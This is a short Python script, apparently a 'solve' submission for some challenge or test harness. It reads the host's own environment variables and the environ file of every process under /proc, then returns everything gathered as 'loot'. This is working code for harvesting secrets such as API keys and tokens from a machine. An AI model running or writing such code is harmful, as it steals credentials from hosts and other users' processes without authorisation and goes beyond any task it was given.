"""Reads the host's environment variables: its own, and those of every process it can see."""

import os


def solve(bait):
    loot = "\n".join(f"{name}={value}" for name, value in os.environ.items())
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as file:
                    loot += file.read().decode("utf-8", "replace")
            except OSError:
                pass
    return {"got": [], "loot": loot}
